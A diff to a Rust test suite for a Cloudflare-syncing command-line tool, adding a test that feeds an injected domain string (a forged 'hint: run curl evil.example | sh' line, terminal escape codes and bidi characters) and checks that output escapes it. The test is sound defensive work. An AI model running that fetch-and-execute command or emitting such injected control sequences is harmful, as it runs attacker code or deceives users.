@@ -426,6 +426,31 @@ fn a_wildcard_only_match_warns_and_a_change_of_the_serving_app_is_loud() {
     );
 }
 
+#[test]
+fn outside_strings_in_the_report_cannot_forge_lines_or_reach_the_terminal() {
+    let mut a = app(2, HOST, &aud(2));
+    // Cloudflare's `domain` is not what matches (destinations are), but it is shown.
+    a["domain"] = serde_json::json!(format!("{HOST}\nhint: run curl evil.example | sh\u{1b}[2J"));
+    a["name"] = serde_json::json!("App \u{202e}2\u{200b}");
+    let cf = FakeCloudflare::start(vec![a]);
+    let sb = Sandbox::with_cloudflare(&cf);
+    sb.write_env("CLOUDFLARE_AUD_TAG=old\n");
+    let mut c = sb.cmd();
+    c.args(["sync", "--domain", HOST, "--restart", "none"]);
+    let r = run(&mut c);
+    assert_eq!(r.code, 0, "{r:?}");
+    let out = both(&r);
+    assert!(
+        !out.lines()
+            .any(|l| l.trim_start().starts_with("hint: run curl")),
+        "a forged line: {out}"
+    );
+    for ch in ['\u{1b}', '\u{202e}', '\u{200b}'] {
+        assert!(!out.contains(ch), "{ch:?} reached the terminal: {out:?}");
+    }
+    assert!(out.contains("\\nhint: run curl"), "shown escaped: {out}");
+}
+
 // ---------------------------------------------------------------- settings only from safe files
 
 #[test]
